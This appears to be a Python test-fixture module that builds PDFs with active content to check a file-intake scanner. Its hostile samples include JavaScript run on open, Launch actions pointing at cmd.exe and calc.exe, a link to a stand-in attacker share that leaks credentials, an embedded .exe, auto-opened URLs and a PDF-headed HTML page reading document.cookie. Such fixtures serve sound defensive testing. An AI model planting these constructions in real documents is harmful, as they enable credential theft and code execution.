"""PDFs with active content, built with pypdf's writer in the tests (no binary fixtures):
each ``change`` is handed to tests.intake.file_helpers.pdf_bytes and alters the document
the way a hostile or a harmless one does."""

from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.intake.file_helpers import EXE, pdf_bytes


def _name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    result = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        result[_name(f"/{key}")] = value
    return result


def _link(writer, target: DictionaryObject) -> None:
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])
    writer.add_annotation(
        page_number=0,
        annotation=DictionaryObject(
            {_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/Rect"): rect, _name("/A"): target}
        ),
    )


def _first_page_destination(writer) -> ArrayObject:
    return ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])


def open_action_javascript(writer):
    writer.root_object[_name("/OpenAction")] = action("/JavaScript", JS=TextStringObject("app.alert('hallo')"))


def document_javascript(writer):
    # The names tree's /JavaScript: run when the document opens, no /OpenAction needed.
    script = action("/JavaScript", JS=TextStringObject("app.alert('hallo');"))
    scripts = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("opstart"), writer._add_object(script)])})
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): scripts})


def link_launch(writer):
    _link(writer, action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")))


def link_remote_share(writer):
    # A link to another PDF on a network share: opening it sends the reader's credentials.
    _link(writer, action("/GoToR", F=TextStringObject("\\\\aanvaller.example\\share\\x.pdf"), D=ArrayObject([NumberObject(0)])))


def page_open_launch(writer):
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): action("/Launch", F=TextStringObject("calc.exe"))})


def embedded_file(writer):
    writer.add_attachment("betaling.exe", EXE)


def file_attachment_annotation(writer):
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(20), FloatObject(20)])
    writer.add_annotation(
        page_number=0,
        annotation=DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/FileAttachment"),
                _name("/Rect"): rect,
                _name("/FS"): DictionaryObject({_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("x.exe")}),
            }
        ),
    )


def open_action_uri(writer):
    writer.root_object[_name("/OpenAction")] = action("/URI", URI=TextStringObject("https://aanvaller.example/"))


def open_action_goto_then_uri(writer):
    writer.root_object[_name("/OpenAction")] = action(
        "/GoTo", D=_first_page_destination(writer), Next=action("/URI", URI=TextStringObject("https://aanvaller.example/"))
    )


def xfa_form(writer):
    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


# Harmless: what ordinary documents carry.


def link_to_web_page(writer):
    _link(writer, action("/URI", URI=TextStringObject("https://www.vlaio.be/")))


def open_at_first_page(writer):
    writer.root_object[_name("/OpenAction")] = _first_page_destination(writer)


def open_with_goto(writer):
    writer.root_object[_name("/OpenAction")] = action("/GoTo", D=_first_page_destination(writer))


def owner_password_only(writer):
    # Restrictions on printing or copying, no password to open it: anyone can read it.
    writer.encrypt(user_password="", owner_password="eigenaar", algorithm="AES-128")


def user_password(writer):
    writer.encrypt(user_password="geheim", owner_password="eigenaar", algorithm="AES-128")


HOSTILE_PDFS = {
    "open-action-javascript": (open_action_javascript, "pdf_javascript"),
    "document-javascript": (document_javascript, "pdf_javascript"),
    "xfa-form": (xfa_form, "pdf_javascript"),
    "link-launch": (link_launch, "pdf_launch"),
    "link-remote-share": (link_remote_share, "pdf_launch"),
    "page-open-launch": (page_open_launch, "pdf_launch"),
    "embedded-file": (embedded_file, "pdf_embedded"),
    "file-attachment-annotation": (file_attachment_annotation, "pdf_embedded"),
    "open-action-uri": (open_action_uri, "pdf_automatic_action"),
    "open-action-goto-then-uri": (open_action_goto_then_uri, "pdf_automatic_action"),
    "user-password": (user_password, "pdf_encrypted"),
}


HARMLESS_PDFS = {
    "plain": None,
    "link-to-web-page": link_to_web_page,
    "open-at-first-page": open_at_first_page,
    "open-with-goto": open_with_goto,
    "owner-password-only": owner_password_only,
}


def hostile_pdf(name: str) -> bytes:
    return pdf_bytes(change=HOSTILE_PDFS[name][0])


# Starts like a PDF, is an HTML page with a script: what a browser sniffing content runs.
PDF_SIGNATURE_HTML = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
